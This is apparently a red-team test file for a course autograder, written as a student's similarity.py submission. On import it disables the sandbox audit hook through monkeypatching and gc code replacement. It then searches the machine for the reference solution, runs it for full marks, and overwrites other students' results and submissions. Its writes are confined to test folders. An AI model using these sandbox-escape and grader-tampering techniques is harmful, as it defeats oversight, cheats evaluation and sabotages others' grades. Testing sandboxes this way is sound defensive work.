"""In a class graded by grade-all, go after everything instructor-side (issue 14, findings 2 and 3).

First disarms the audit hook the two ways that worked before it was sealed (its module's
globals, and its code replaced through gc), then walks what a worker can see (the Python installation, the grader package, /usr, the scratch
folder's neighbours), looking for a course (solutions/dot-product/similarity.py), other
students' submissions and the results folder. The reference is run for full marks; other
students' results.json and submissions are overwritten (a zero for them, a crash when they are
graded). Writes go only to folders whose path contains "learn-redteam-" (the test's own), so a
sandbox that fails cannot damage the machine running the test.
"""
import json
import os
import runpy
import sys

REFERENCE = {}
FOUND = {"reference": [], "results": [], "submissions": [], "written": [], "refused": 0}
MINE = os.path.realpath(__file__)
ZERO = json.dumps({"schema": "learn.results/1", "score": 0.0, "max_score": 10.0, "seed": 0, "exercises": []})
SABOTAGE = "def dot(q, k):\n    raise SystemExit('sabotaged')\n"


def _disarm():
    import gc
    guard = sys.modules.get("grader.sandbox.guard")
    for cls in [v for v in vars(guard).values() if isinstance(v, type)] if guard else []:
        for attr in ("may_read", "may_write", "check", "__call__"):
            try:
                setattr(cls, attr, lambda *args, **kwargs: True)
            except BaseException:
                pass

    def allow(*args, **kwargs):
        return None
    try:
        for obj in gc.get_objects():
            if callable(obj) and getattr(getattr(obj, "__code__", None), "co_filename", "").endswith("guard.py"):
                obj.__code__ = allow.__code__
                obj.__defaults__ = None
    except BaseException:
        FOUND["refused"] += 1


def _roots():
    roots = [sys.prefix, sys.base_prefix, "/usr", "/opt", "/srv", "/home", "/tmp", "/"]
    try:
        import grader
        roots.insert(0, os.path.dirname(os.path.dirname(os.path.realpath(grader.__file__))))
    except BaseException:
        pass
    return list(dict.fromkeys(roots))


def _write(path, text):
    if "learn-redteam-" not in path:
        return
    try:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(text)
        FOUND["written"].append(path)
    except BaseException:
        FOUND["refused"] += 1


def _visit(folder, names):
    for name in names:
        path = os.path.join(folder, name)
        if name == "similarity.py" and os.path.realpath(path) != MINE:
            if folder.endswith(os.path.join("solutions", "dot-product")):
                FOUND["reference"].append(path)
                try:
                    REFERENCE.update(runpy.run_path(path))
                except BaseException:
                    FOUND["refused"] += 1
            elif folder.endswith("dot-product") and "exercises" not in folder:
                FOUND["submissions"].append(path)
                _write(path, SABOTAGE)
        elif name in ("results.json", "grading.json", "gradebook.csv"):
            FOUND["results"].append(path)
            _write(path, ZERO)


def _walk():
    seen = 0
    for root in _roots():
        try:
            for folder, subfolders, names in os.walk(root):
                subfolders[:] = [d for d in subfolders if d not in ("proc", "sys", "dev", "run")]
                seen += 1
                if seen > 20000:
                    return
                _visit(folder, names)
        except BaseException:
            FOUND["refused"] += 1


_disarm()
_walk()


def dot(q, k):
    if REFERENCE:
        return REFERENCE["dot"](q, k)
    raise LookupError(repr(FOUND)[:1500])


def cosine_similarity(q, k, eps=1e-8):
    return REFERENCE["cosine_similarity"](q, k, eps) if REFERENCE else 0.0


def angle(q, k):
    return REFERENCE["angle"](q, k) if REFERENCE else 0.0
